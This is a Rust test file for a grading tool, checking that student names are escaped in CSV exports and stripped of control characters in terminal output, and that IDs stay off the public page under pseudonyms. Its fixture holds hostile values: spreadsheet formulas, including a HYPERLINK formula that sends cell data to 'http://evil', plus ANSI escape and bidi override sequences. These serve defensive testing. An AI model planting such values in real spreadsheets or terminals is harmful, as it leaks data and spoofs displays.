//! Names of students that a spreadsheet would run and that would control a terminal.

use std::fs;
use std::process::Command;

use super::{Class, SETTINGS};
use testkit::list::Tests;
use testkit::terminal::Terminal;

pub(crate) fn tests(tests: &mut Tests) {
    add!(
        tests,
        no_name_is_a_formula_in_a_table,
        no_name_controls_a_terminal,
        ids_are_on_the_public_page_only_if_asked
    );
}

const STUDENTS: [(&str, &str, &str); 5] = [
    ("ada", "=1+2", "@SUM(1)"),
    (
        "bob",
        "\u{a0}=1",
        "\"\u{a0}=HYPERLINK(\"\"http://evil/?\"\"&A1)\"",
    ),
    ("cyd", "\u{ff1d}1", "\u{ff20}a"),
    ("dan", "-1", "+1"),
    ("eve", "x\u{1b}[31m\u{202e}", "\u{1b}]0;evil\u{7}"),
];

fn no_name_is_a_formula_in_a_table() {
    let class = Class::new(SETTINGS, &STUDENTS);
    class.succeeds(&["site"]);
    let pages = fs::read_to_string(class.path("private/pages.csv")).unwrap();
    let grades = class.succeeds(&["grade"]);
    for (table, columns) in [(&pages, [1, 3].as_slice()), (&grades, &[1, 2])] {
        let mut rows = table
            .lines()
            .skip(1)
            .map(|line| line.splitn(4, ',').collect::<Vec<_>>());
        for (id, _, _) in &STUDENTS[..4] {
            let row = rows.next().unwrap();
            assert_eq!(row[0], *id, "{table}");
            for column in columns {
                assert!(
                    row[*column].trim_start_matches('"').starts_with('\''),
                    "{table}"
                );
            }
        }
    }
    // A program gets the name as it is.
    assert!(grades.contains(STUDENTS[4].1), "{grades}");
}

fn no_name_controls_a_terminal() {
    let class = Class::new(SETTINGS, &STUDENTS);
    let mut command = Command::new(testkit::programs::built("referee"));
    command.args(["class", "grade", "-C"]).arg(class.path(""));
    let (shown, _) = Terminal::sized((200, 24), command).ends();
    assert!(shown.contains("x\\u{1b}[31m\\u{202e}"), "{shown:?}");
    assert!(
        !shown.contains(['\u{1b}', '\u{7}', '\u{202e}']),
        "{shown:?}"
    );
}

fn ids_are_on_the_public_page_only_if_asked() {
    let class = Class::new(SETTINGS, &[("s4711", "Ada", ""), ("s4712", "Bob", "Duo")]);
    let pages = |setting: &str| {
        class.set(&format!("{setting}\n{SETTINGS}"));
        class.succeeds(&["site"]);
        let list = fs::read_to_string(class.path("private/pages.csv")).unwrap();
        let public = class.public_page();
        ["s4711", "s4712", "Duo"].map(|name| {
            let line = list.lines().find(|line| line.starts_with(name));
            let called = line.map_or(name, |line| line.split(',').nth(3).unwrap());
            assert!(public.contains(called) && class.page_of("s4711").contains("for Ada alone"));
            public.contains(name)
        })
    };
    assert_eq!(pages(""), [false, false, true]);
    assert_eq!(pages("pseudonyms = false"), [true, false, true]);
}
